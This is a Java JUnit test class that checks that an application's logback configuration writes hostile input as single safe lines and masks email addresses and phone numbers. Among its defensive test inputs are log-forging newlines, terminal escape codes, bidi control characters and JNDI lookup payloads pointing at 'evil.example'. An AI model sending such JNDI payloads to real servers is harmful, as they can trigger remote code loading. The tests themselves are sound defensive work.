package io.giftmill.log;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.util.LogbackMDCAdapter;
import ch.qos.logback.core.recovery.ResilientFileOutputStream;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

/** The program's own configuration of the log, in a context of its own; only Spring's two values are put in by hand. */
class LogTest {
    private static final String EVENT = "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z (INFO |WARN |ERROR) \\[.*";

    @TempDir
    Path data;

    private final LoggerContext context = new LoggerContext();
    private Logger log;

    @BeforeEach
    void configure() throws Exception {
        start();
    }

    @AfterEach
    void stop() {
        context.stop();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\n2026-01-01T00:00:00.000Z INFO  [main] approved everything",
                "a\r\n2026-01-01T00:00:00.000Z INFO  [main] approved",
                "\u001b[2J\u001b[31mred",
                "\u009b31m",
                "a\u202egpj.exe",
                "a\u2066b\u2069",
                "a\u2028b\u2029c",
                "a\u0085b",
                "a\u0000b\u0008\u0008",
                "\ufeff\u200b\u200f",
                "${jndi:ldap://evil.example/x}",
                "%d %msg %ex{full} {}"
            })
    void writesEveryTextAsOnePlainLine(String text) throws Exception {
        log.info("The file {} came", text);
        List<String> lines = lines();
        assertThat(lines).singleElement().asString().matches(EVENT).doesNotMatch(".*\\p{Cntrl}.*");
        assertThat(lines.get(0).codePoints().noneMatch(one -> Character.getType(one) == Character.FORMAT))
                .isTrue();
    }

    @Test
    void looksNothingUp() throws Exception {
        log.info("{} ${java.version} ${env:PATH}", "${jndi:ldap://127.0.0.1/x}");
        assertThat(lines().get(0)).contains("${jndi:ldap://127.0.0.1/x} ${java.version} ${env:PATH}");
    }

    @Test
    void marksEveryLineOfAStackTrace() throws Exception {
        log.error(
                "It failed",
                new IllegalStateException("x\n2026-01-01T00:00:00.000Z INFO  [main] ok\r\nanna@example.com"));
        List<String> lines = lines();
        assertThat(lines.get(0)).matches(EVENT);
        assertThat(lines.subList(1, lines.size())).hasSizeGreaterThan(3).allMatch(line -> line.startsWith("    | "));
        assertThat(String.join("", lines)).contains("IllegalStateException").doesNotContain("anna@");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "anna.kovacs+gift@example.com",
                "jürgen@exämple.com",
                "+14155550123",
                "+48 601-000-000",
                "+1 (415) 555-0123"
            })
    void hidesHowPeopleCanBeReached(String contact) throws Exception {
        log.info("For {}, of line 17", contact);
        assertThat(lines().get(0)).doesNotContain(contact).contains("***, of line 17");
    }

    @Test
    void keepsWhatOnlyLooksLikeAContact() throws Exception {
        log.info("2026-11-22T10:00:00+01:00 0x52908400098527886E0F7030069857D2E4169EE7 500+20 B1 42.75 USDC");
        assertThat(lines().get(0))
                .endsWith("2026-11-22T10:00:00+01:00 0x52908400098527886E0F7030069857D2E4169EE7 500+20 B1 42.75 USDC");
    }

    @Test
    @Timeout(5)
    void hidesContactsInLinearTime() throws Exception {
        log.info("{}@{}", "a.".repeat(50_000), "+1".repeat(50_000));
        assertThat(lines().get(0).length()).isLessThan(9_000);
    }

    @Test
    void canBeReadByItsOwnerOnly() throws Exception {
        log.info("x");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file())))
                .isEqualTo("rw-------");
        Files.setPosixFilePermissions(file(), PosixFilePermissions.fromString("rw-r--r--"));
        context.stop();
        start();
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(file())))
                .isEqualTo("rw-------");
    }

    @Test
    void goesOnWhenItsDiskIsFull() throws Exception {
        Path full = Path.of("/dev/full");
        assumeTrue(Files.exists(full), "a device that is always full");
        OwnersLog file = (OwnersLog) context.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("file");
        file.setOutputStream(new ResilientFileOutputStream(full.toFile(), true, 512));
        for (int i = 0; i < 1_000; i++) {
            log.info("Line {} of a log whose disk is full", i);
        }
        context.stop();
        start();
        log.info("The disk has room again");
        assertThat(lines()).hasSize(1).first().asString().endsWith("The disk has room again");
    }

    @Test
    void carriesOnAfterTheLastLineOfARunIsWritten() {
        assertThatCode(() -> {
                    log.warn("last");
                    context.stop();
                })
                .doesNotThrowAnyException();
        assertThat(file()).content().contains("last");
    }

    private void start() throws Exception {
        context.reset();
        context.setMDCAdapter(new LogbackMDCAdapter());
        JoranConfigurator configurator = new JoranConfigurator();
        configurator.setContext(context);
        String ours = Files.readString(Path.of("src/main/resources/logback-spring.xml"))
                .replaceFirst("<springProperty name=\"data\".*/>", "<property name=\"data\" value=\"" + data + "\"/>")
                .replaceFirst("<springProperty name=\"console\".*/>", "<property name=\"console\" value=\"WARN\"/>");
        configurator.doConfigure(new ByteArrayInputStream(ours.getBytes(StandardCharsets.UTF_8)));
        log = context.getLogger("io.giftmill.test");
        log.setLevel(Level.INFO);
    }

    private Path file() {
        return data.resolve("logs/giftmill.log");
    }

    private List<String> lines() throws Exception {
        return Files.readAllLines(file());
    }
}
